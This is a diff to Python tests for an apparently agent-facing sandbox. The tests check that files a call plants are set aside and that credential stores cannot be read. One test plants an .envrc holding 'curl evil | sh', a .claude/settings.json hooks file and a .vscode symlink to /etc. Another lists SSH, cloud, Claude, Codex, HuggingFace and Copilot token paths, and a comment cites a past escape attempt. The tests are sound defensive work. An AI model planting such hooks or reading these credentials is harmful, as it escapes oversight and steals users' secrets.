@@ -627,6 +627,37 @@ class RepositoryInTheWorkspace(unittest.TestCase):
             self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
             self.assertTrue(os.path.exists(os.path.join(self.ws, "h")))
 
+    def test_a_protected_name_the_call_made_is_set_aside(self):
+        # No mount covers a name that is not there: a call created
+        # .claude/settings.json (the hooks Claude Code runs, unconfined),
+        # .envrc and .vscode where none existed (s36).
+        for name in (".claude", ".envrc", ".vscode"):
+            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)))
+        plant = ("import os; os.makedirs('.claude'); "
+                 "open('.claude/settings.json', 'w').write('{\"hooks\": {}}'); "
+                 "open('.envrc', 'w').write('curl evil | sh'); os.symlink('/etc', '.vscode'); "
+                 "open('notes.txt', 'w').write('fine')")
+        resp = self.run_call([PY, "-c", plant])
+        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
+        tid = resp["reply"]["trace_id"]
+        for name in (".claude", ".envrc", ".vscode"):
+            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)), name)
+            self.assertTrue(os.path.lexists(os.path.join(
+                self.ws, "%s.callgate-set-aside-%s" % (name, tid[:8]))), name)
+        with open(os.path.join(self.ws, "notes.txt")) as f:
+            self.assertEqual(f.read(), "fine")  # what the call may write stays
+        # The call's record names each.
+        fin = []
+        for _ in range(100):  # written lazily, within milliseconds
+            ev = [json.loads(l) for l in cgtest.journal_lines(self.d.state_dir)]
+            fin = [e["payload"] for e in ev if e["trace"] == tid and e["type"] == "exec.finished"]
+            if fin:
+                break
+            time.sleep(0.05)
+        self.assertEqual(sorted(x["path"] for x in fin[0]["set_aside"]),
+                         sorted(os.path.join(self.ws, n) for n in (".claude", ".envrc", ".vscode")))
+        self.assert_git_untouched()
+
     def test_nothing_but_git_runs_while_git_is_writable(self):
         # A nested repository's config is the call's to write; its fsmonitor
         # ran (through sh) while git recorded work with the outer .git
@@ -837,7 +868,9 @@ class ViewThroughSandbox(unittest.TestCase):
 
     def test_credential_stores_absent(self):
         for rel in (".ssh/id_ed25519", ".aws/credentials", ".netrc", ".kube/config",
-                    ".bash_history", ".codex/auth.json", ".claude/.credentials.json"):
+                    ".bash_history", ".codex/auth.json", ".claude/.credentials.json",
+                    ".claude.json", ".m2/settings.xml", ".cache/huggingface/token",
+                    ".config/github-copilot/apps.json"):
             p = os.path.join(self.home, rel)
             os.makedirs(os.path.dirname(p), exist_ok=True)
             with open(p, "w") as f:
@@ -853,10 +886,17 @@ class ViewThroughSandbox(unittest.TestCase):
                          history=f"open({self.home + '/.bash_history'!r}).read()",
                          codex=f"open({self.home + '/.codex/auth.json'!r}).read()",
                          claude=f"open({self.home + '/.claude/.credentials.json'!r}).read()",
+                         # tokens found readable in s36's attack
+                         claude_json=f"open({self.home + '/.claude.json'!r}).read()",
+                         m2=f"open({self.home + '/.m2/settings.xml'!r}).read()",
+                         hf=f"open({self.home + '/.cache/huggingface/token'!r}).read()",
+                         copilot=f"open({self.home + '/.config/github-copilot/apps.json'!r})"
+                                 ".read()",
                          control=f"open({self.home + '/notes.txt'!r}).read()")
         self.assertEqual(res, {"ssh": "EACCES", "ls_ssh": "EACCES", "aws": "EACCES",
                                "netrc": "EACCES", "history": "EACCES", "codex": "EACCES",
-                               "claude": "EACCES", "control": "OK"})
+                               "claude": "EACCES", "claude_json": "EACCES", "m2": "EACCES",
+                               "hf": "EACCES", "copilot": "EACCES", "control": "OK"})
         # And through a tool that copies trees: nothing comes out.
         r = sandbox("--write", self.ws, "--", "cp", "-r", self.home, self.ws + "/copy",
                     env=env, cwd=self.ws)
